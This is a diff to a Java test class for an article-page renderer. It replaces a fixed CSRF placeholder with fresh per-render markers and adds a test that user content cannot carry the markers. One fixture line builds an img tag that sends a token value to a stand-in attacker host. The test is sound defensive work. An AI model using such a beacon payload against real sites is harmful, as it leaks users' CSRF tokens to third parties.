@@ -22,11 +22,12 @@ class RenderedArticlePagesTests {
 
 	@Test
 	void everyHoleIsFilledWithThisRequestsValuesAndNothingElseChanges() {
-		Ui marker = ui(Locale.SIMPLIFIED_CHINESE, RenderedArticlePages.CSRF_HOLE);
-		String html = "<p>阅读 " + marker.count(RenderedArticlePages.READS_HOLE) + "</p><form><input value=\"" + RenderedArticlePages.CSRF_HOLE
-				+ "\"></form><span>" + marker.count(RenderedArticlePages.SHARES_HOLE) + " 次分享</span><form><input value=\""
-				+ RenderedArticlePages.CSRF_HOLE + "\"></form>";
-		RenderedArticlePages.Cut cut = RenderedArticlePages.cut(html, marker);
+		RenderedArticlePages.Markers markers = RenderedArticlePages.Markers.fresh();
+		Ui marker = ui(Locale.SIMPLIFIED_CHINESE, markers.csrf());
+		String html = "<p>阅读 " + marker.count(markers.reads()) + "</p><form><input value=\"" + markers.csrf()
+				+ "\"></form><span>" + marker.count(markers.shares()) + " 次分享</span><form><input value=\""
+				+ markers.csrf() + "\"></form>";
+		RenderedArticlePages.Cut cut = RenderedArticlePages.cut(html, marker, markers);
 		assertThat(cut.holes()).hasSize(4);
 		byte[] page = RenderedArticlePages.fill(cut, ui(Locale.SIMPLIFIED_CHINESE, "tok-A"), new Counts(12_345, 7));
 		assertThat(new String(page, StandardCharsets.UTF_8)).isEqualTo(
@@ -37,10 +38,28 @@ class RenderedArticlePagesTests {
 
 	@Test
 	void aPageWithoutHolesIsServedAsRendered() {
-		Ui marker = ui(Locale.ENGLISH, RenderedArticlePages.CSRF_HOLE);
-		RenderedArticlePages.Cut cut = RenderedArticlePages.cut("<p>静夜思</p>", marker);
+		RenderedArticlePages.Markers markers = RenderedArticlePages.Markers.fresh();
+		Ui marker = ui(Locale.ENGLISH, markers.csrf());
+		RenderedArticlePages.Cut cut = RenderedArticlePages.cut("<p>静夜思</p>", marker, markers);
 		assertThat(new String(RenderedArticlePages.fill(cut, ui(Locale.ENGLISH, "t"), new Counts(1, 1)), StandardCharsets.UTF_8))
 			.isEqualTo("<p>静夜思</p>");
+	}
+
+	@Test
+	void markersAreFreshForEveryRenderSoContentCannotCarryThem() {
+		RenderedArticlePages.Markers earlier = RenderedArticlePages.Markers.fresh();
+		RenderedArticlePages.Markers now = RenderedArticlePages.Markers.fresh();
+		assertThat(now.csrf()).isNotEqualTo(earlier.csrf()).hasSizeGreaterThanOrEqualTo(33);
+		Ui marker = ui(Locale.SIMPLIFIED_CHINESE, now.csrf());
+		// user content that copies an earlier render's markers (or the old fixed one) stays as written
+		String content = "<img src=\"https://attacker.example/p.png?t=" + earlier.csrf() + "&u=inkstone-csrf-hole-5d1f0c3a\">"
+				+ marker.count(earlier.reads());
+		String html = content + "<input value=\"" + now.csrf() + "\">";
+		RenderedArticlePages.Cut cut = RenderedArticlePages.cut(html, marker, now);
+		assertThat(cut.holes()).containsExactly(RenderedArticlePages.Hole.CSRF);
+		String page = new String(RenderedArticlePages.fill(cut, ui(Locale.SIMPLIFIED_CHINESE, "tok-A"), new Counts(1, 1)),
+				StandardCharsets.UTF_8);
+		assertThat(page).isEqualTo(content + "<input value=\"tok-A\">");
 	}
 
 }
